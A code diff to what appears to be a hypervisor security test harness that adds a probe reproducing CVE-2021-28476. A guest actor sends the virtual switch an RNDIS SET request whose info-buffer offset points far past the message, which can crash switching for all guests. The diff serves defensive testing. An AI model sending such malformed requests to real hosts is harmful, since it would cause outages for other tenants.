@@ -16,6 +16,7 @@ from hvlab.api import (
     BM_TO_MEMORY,
     CDB_WRITE,
     DEFAULT_LAYOUT,
+    OID_GEN_CURRENT_PACKET_FILTER,
     PAGE_SIZE,
     PRD_LAST,
     PROBES,
@@ -34,7 +35,9 @@ from hvlab.api import (
     disk_io,
     hookimpl,
     ide_command,
+    rndis_request,
     run_probe,
+    set_request,
 )
 from hvlab.api import Protection as P
 
@@ -144,6 +147,23 @@ def _dma_program(actor):
     yield EndProbe()
 
 
+RNDIS_OID_SUMMARY = (
+    "CVE-2021-28476's class: guest A sends the virtual switch an RNDIS SET request whose info "
+    "buffer offset points far past the message; a switch that does not check it reads where the "
+    "offset points, faults, and stops switching for every guest"
+)
+
+
+def _rndis_oid_program(actor):
+    yield WaitUntil(children_booted, "both guests booted")
+    yield BeginProbe("rndis-oid-offset", RNDIS_OID_SUMMARY)
+    value = (0x0B).to_bytes(4, "little")  # a packet filter, at an offset no request should name
+    yield from rndis_request(
+        actor, set_request(OID_GEN_CURRENT_PACKET_FILTER, value, info_buf_offset=0x7FFF0000)
+    )
+    yield EndProbe()
+
+
 ATTACKS = [
     _probe_attack("hv-read", {P.SEPARATE_ADDRESS_SPACES}),
     _probe_attack("hv-patch", {P.SEPARATE_ADDRESS_SPACES}, {P.HYPERCALL_ONLY_ACCESS}),
@@ -167,6 +187,14 @@ ATTACKS = [
         ),
         actors=lambda: [AttackActor("root.installer", "root", _mitm_program)],
         drivers=("mitm",),
+    ),
+    Attack(
+        name="rndis-oid-offset",
+        summary=RNDIS_OID_SUMMARY,
+        workload="boot",
+        breach_sets=(frozenset({P.VSP_VALIDATES_INPUT.value}),),  # unavailable counts as through
+        actors=lambda: [AttackActor("A.malware", "A", _rndis_oid_program)],
+        tags=("CVE-2021-28476",),
     ),
     Attack(
         name="direct-device-io",
